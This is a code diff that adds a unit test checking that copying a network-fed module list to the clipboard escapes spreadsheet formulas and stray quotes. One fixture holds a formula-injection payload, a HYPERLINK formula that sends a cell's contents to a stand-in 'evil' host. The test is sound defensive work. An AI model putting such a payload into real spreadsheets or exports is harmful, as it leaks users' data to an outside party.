@@ -100,6 +100,24 @@ TEST_F(ListCopy, ControlCCopiesEveryRowInTheListsOrderUnderTheHeadings) {
     EXPECT_EQ(ClipboardText(), all);
 }
 
+// A module's texts come from the network: a Type that a spreadsheet would
+// take for a live formula, or whose leading quote would swallow the cells
+// after it, is copied guarded as the command line's CSV writes it.
+TEST_F(ListCopy, ControlCCopiesNetworkTextsGuarded) {
+    VORN_ModuleScanResponseType formula = Record(0x40, Ip(10, 0, 0, 4));
+    std::strcpy(formula.fbType, "=HYPERLINK(\"http://evil/\"&A1)");
+    VORN_ModuleScanResponseType quoted = Record(0x50, Ip(10, 0, 0, 5));
+    std::strcpy(quoted.fbType, "\"IO");
+    host.List().AddModule(formula);
+    host.List().AddModule(quoted);
+    PressKey('C', VK_CONTROL);
+    const std::string copied = ClipboardText();
+    EXPECT_NE(copied.find("\tOff\t1.05.0\t\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\"\t02-00-00-00-00-40\r\n"),
+              std::string::npos)
+        << copied;
+    EXPECT_NE(copied.find("\tOff\t1.05.0\t\"\"\"IO\"\t02-00-00-00-00-50\r\n"), std::string::npos) << copied;
+}
+
 TEST_F(ListCopy, MenuOnARowCopiesThatRowOrAll) {
     {
         PopupMenuAnswer copyRow(kCopyRowItem);
